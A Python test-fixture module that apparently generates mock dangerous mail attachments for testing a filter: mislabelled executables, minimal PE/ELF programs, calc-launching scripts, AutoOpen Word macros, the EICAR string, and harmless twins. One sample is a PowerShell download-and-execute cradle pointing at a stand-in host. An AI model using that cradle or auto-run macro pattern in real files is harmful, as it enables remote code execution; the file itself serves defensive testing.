"""What the messages carry: six kinds of danger, and a harmless file in the place of each.

Every file holds a mark of its own, in bytes that no container but a compressing or encoding one
changes: who finds the mark has got the file out.
"""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

import cfb

KINDS = ("by_name", "by_content", "both", "script", "macro", "eicar")

# In two pieces, so that no scanner takes this file for the test file.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"

PROGRAMS = ("exe", "scr", "com", "pif", "cpl", "msi", "bat", "cmd", "vbs", "js", "hta", "jar",
            "lnk")
PICTURES = ("jpg", "png", "gif", "pdf", "txt")


@dataclass
class Payload:
    """A file and the name it would have without any trick."""

    kind: str
    stem: str
    ext: str
    content: bytes
    mark: bytes
    harmless: bool

    @property
    def name(self):
        """The plain name."""
        return self.stem + "." + self.ext

    @property
    def is_text(self):
        """Whether the content can stand in a message without an encoding."""
        return all(byte in b"\r\n\t" or 32 <= byte < 127 for byte in self.content)


def mark(rnd):
    """A mark that is not in anything else: 32 letters and digits."""
    return b"Mk" + bytes(rnd.choice(b"0123456789abcdefghijkmnopqrstuvwxyz") for _ in range(30))


def text(marked):
    """A harmless text."""
    return (b"Minutes of the meeting\r\n\r\nWe met and agreed.\r\n" + marked
            + b"\r\nThe next meeting is on Monday.\r\n")


def windows_program(marked):
    """A PE file with one section; it would end at once."""
    dos = b"MZ" + struct.pack("<13H", 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0, 0, 0x40, 0)
    dos = dos.ljust(60, b"\0") + struct.pack("<I", 128)
    stub = b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    dos += (stub + b"This program cannot be run in DOS mode.\r\r\n$").ljust(64, b"\0")
    coff = struct.pack("<HHIIIHH", 0x14C, 1, 0x5F000000, 0, 0, 224, 0x102)
    optional = struct.pack("<HBBIIIIII", 0x10B, 14, 0, 512, 0, 0, 0x1000, 0x1000, 0x2000)
    optional += struct.pack("<IIIHHHHHHIIIIHH", 0x400000, 4096, 512, 4, 0, 0, 0, 4, 0, 0, 0x2000,
                            512, 0, 2, 0)
    optional += struct.pack("<IIIIII", 0x100000, 4096, 0x100000, 4096, 0, 16) + bytes(128)
    section = b".text\0\0\0" + struct.pack("<IIIIIIHHI", 512, 0x1000, 512, 512, 0, 0, 0, 0,
                                           0x60000020)
    head = (dos + b"PE\0\0" + coff + optional + section).ljust(512, b"\0")
    return head + (b"\x31\xc0\xc3" + marked).ljust(512, b"\0")


def linux_program(marked):
    """An ELF file for x86-64 with one segment."""
    head = b"\x7fELF\x02\x01\x01" + bytes(9)
    head += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    size = 120 + 64
    head += struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size, 4096)
    return head + (b"\xb0\x3c\x31\xff\x0f\x05" + marked).ljust(64, b"\0")


def png(marked):
    """A picture of one grey dot, with the mark as its comment."""

    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + chunk(b"tEXt", b"Comment\0" + marked) + chunk(b"IDAT", zlib.compress(b"\0\x80"))
            + chunk(b"IEND", b""))


def pdf(marked, catalog=b"", objects=()):
    """A document of one page, with more in its catalog and more objects from number 5 on."""
    stream = b"BT /F1 12 Tf 72 720 Td (" + marked + b") Tj ET"
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        *objects,
    ]
    out, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, body in enumerate(parts, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return (out + b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1) + table
            + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
            % (len(parts) + 1, len(out)))


def zipped(members, method=zipfile.ZIP_STORED):
    """A zip of (name, bytes), with fixed times."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name, (2026, 11, 24, 12, 0, 0)), content, method)
    return out.getvalue()


WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/"
RELATION = '<Relationship Id="%s" Type="%s" Target="%s"%s/>'


def docx(marked, main="application/vnd.openxmlformats-officedocument.wordprocessingml.document"
         ".main+xml", more=(), relations="", types=""):
    """A Word document; `more` are further members, `relations` and `types` further XML."""
    xml = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    members = [
        ("[Content_Types].xml", xml + '<Types xmlns="%scontent-types"><Default Extension="rels" '
         'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default '
         'Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
         'ContentType="%s"/>%s</Types>' % (PACKAGE, main, types)),
        ("_rels/.rels", xml + '<Relationships xmlns="%srelationships">%s</Relationships>' % (
            PACKAGE, RELATION % ("r1", OFFICE + "/officeDocument", "word/document.xml", ""))),
        ("word/document.xml", xml + '<w:document xmlns:w="%s"><w:body><w:p><w:r><w:t>%s</w:t>'
         '</w:r></w:p></w:body></w:document>' % (WORD, marked.decode())),
        ("word/_rels/document.xml.rels", xml + '<Relationships xmlns="%srelationships">%s'
         '</Relationships>' % (PACKAGE, relations)),
    ]
    return zipped(members + list(more))


VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
MACRO = (b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n'
         b'Shell "calc.exe", vbNormalFocus\r\n\'%s\r\nEnd Sub\r\n'
         b'Sub Document_Open()\r\nAutoOpen\r\nEnd Sub\r\n')


def docm(marked):
    """A Word document of today with a macro."""
    types = ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')
    return docx(
        b"Hello", "application/vnd.ms-word.document.macroEnabled.main+xml",
        [("word/vbaProject.bin", cfb.compound(cfb.project(MACRO % marked)))],
        RELATION % ("r9", VBA, "vbaProject.bin", ""), types)


def doc(marked):
    """A Word document of 1997 with a macro."""
    return cfb.compound({
        "WordDocument": b"\xec\xa5\xc1\0",
        "1Table": b"",
        "Macros": cfb.project(MACRO % marked),
    })


SCRIPTS = {
    "js": b'var s = new ActiveXObject("WScript.Shell");\r\n// %s\r\ns.Run("calc.exe");\r\n',
    "vbs": b'Set s = CreateObject("WScript.Shell")\r\n\' %s\r\ns.Run "calc.exe"\r\n',
    "bat": b"@echo off\r\nrem %s\r\nstart calc.exe\r\n",
    "ps1": b"$c = New-Object Net.WebClient\r\n# %s\r\nIEX $c.DownloadString('http://x.invalid/')"
           b"\r\n",
    "hta": b"<script language=\"VBScript\">\r\n' %s\r\nCreateObject(\"WScript.Shell\").Run "
           b"\"calc.exe\"\r\n</script>\r\n",
    "wsf": b'<job><script language="JScript">\r\n// %s\r\nnew ActiveXObject("WScript.Shell")'
           b'.Run("calc.exe");\r\n</script></job>\r\n',
}


def danger(kind, rnd):
    """A payload of a kind; what exactly, the dice say."""
    marked = mark(rnd)
    make = {
        "by_name": lambda: ("invoice", rnd.choice(PROGRAMS), text(marked)),
        "by_content": lambda: ("photo", rnd.choice(PICTURES), rnd.choice(
            (windows_program, windows_program, linux_program))(marked)),
        "both": lambda: ("invoice", rnd.choice(("exe", "scr", "com")), windows_program(marked)),
        "script": lambda: _script(marked, rnd),
        "macro": lambda: rnd.choice((
            lambda: ("report", "docm", docm(marked)), lambda: ("report", "doc", doc(marked))))(),
        # The test file may be followed by white space only, so it is its own mark.
        "eicar": lambda: ("eicar", "com", EICAR),
    }
    stem, ext, content = make[kind]()
    return Payload(kind, stem, ext, content, EICAR if kind == "eicar" else marked, False)


def _script(marked, rnd):
    ext = rnd.choice(sorted(SCRIPTS))
    return "invoice", ext, SCRIPTS[ext].replace(b"%s", marked)


def twin(kind, rnd):
    """The harmless file in the place of a payload of this kind."""
    marked = mark(rnd)
    make = {
        "by_name": lambda: ("letter", "txt", text(marked)),
        "by_content": lambda: ("photo", "png", png(marked)),
        "both": lambda: ("letter", "pdf", pdf(marked)),
        "script": lambda: ("notes", "csv", b"day,hours\r\n%s,8\r\n" % marked),
        "macro": lambda: ("report", "docx", docx(marked)),
        # A text that begins like a program is none.
        "eicar": lambda: ("letter", "txt", b"MZ is a town.\r\n" + text(marked)),
    }
    stem, ext, content = make[kind]()
    return Payload(kind, stem, ext, content, marked, True)
